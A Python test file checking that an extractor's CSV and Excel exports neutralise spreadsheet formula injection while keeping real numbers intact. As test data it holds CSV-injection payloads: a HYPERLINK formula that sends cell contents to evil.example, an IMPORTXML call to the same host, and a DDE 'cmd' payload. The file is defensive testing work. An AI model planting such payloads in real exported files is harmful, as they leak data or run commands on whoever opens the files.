"""Exports are safe to open (issue 17): text that a spreadsheet program would evaluate never becomes a
formula, in the CSVs (OWASP's CSV-injection advice: a leading apostrophe) or in the Excel workbook
(stored as text); a real figure, negative ones included, stays as it is."""
import csv
import io

from openpyxl import load_workbook

from extractor import export
from extractor.model import Cell, Document, KpiRecord, KpiTarget, Page, Table

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1", "＝1+1", "  =1+1"]
NUMBERS = ["-12.50", "+3", "-1,234.56", "39.23%", "1,021.29", "0"]


def _doc() -> Document:
    texts = HOSTILE + NUMBERS + ["一般公共服务支出"]
    cells = [Cell(row=i, col=0, bbox=[0, 20 * i, 100, 20 * i + 20], text=t, confidence=0.5) for i, t in enumerate(texts)]
    t = Table(id="p1-t0", bbox=[0, 0, 100, 20 * len(texts)], n_rows=len(texts), n_cols=1, cells=cells,
              col_edges=[0, 100], title='=IMPORTXML("http://evil.example","//a")')
    k = KpiRecord(project="=1+1", period="年度", level1="产出指标", level2="数量指标", level3="@SUM(A1)",
                  value="-1+1", target=KpiTarget(kind="qualitative", text="-1+1"), confidence=0.4,
                  table_id="p1-t0", row=0)
    return Document(source="=evil().pdf", n_pages=1, pages=[Page(page=1, width=100, height=400, tables=[t])],
                    kpis=[k])


def _formula_like(v: str) -> bool:
    return v.lstrip(" \u3000").startswith(tuple("=+-@\t\r＝＋－＠"))


def test_csv_exports_neutralise_formulas_and_keep_numbers(tmp_path):
    doc = _doc()
    texts = [r for r in csv.reader(io.StringIO(export.table_csv(doc.pages[0].tables[0])))]
    got = [r[0] for r in texts]
    assert got[:len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert got[len(HOSTILE):len(HOSTILE) + len(NUMBERS)] == NUMBERS
    for text in (export.cells_csv(doc), export.kpi_csv(doc)):
        for row in csv.reader(io.StringIO(text)):
            for v in row:
                assert not _formula_like(v) or v in NUMBERS, v
    for p in export.write_csvs(doc, tmp_path):
        for row in csv.reader(open(p, encoding="utf-8-sig", newline="")):
            for v in row:
                assert not _formula_like(v) or v in NUMBERS, (p.name, v)


def test_xlsx_holds_no_formula_and_keeps_the_text():
    doc = _doc()
    wb = load_workbook(io.BytesIO(export.xlsx_bytes(doc)))
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    seen.add(c.value)
    # the text itself is kept exactly (stored as text, not rewritten)
    assert set(HOSTILE[:4]) <= seen and "=evil().pdf" in seen and "-1+1" in seen
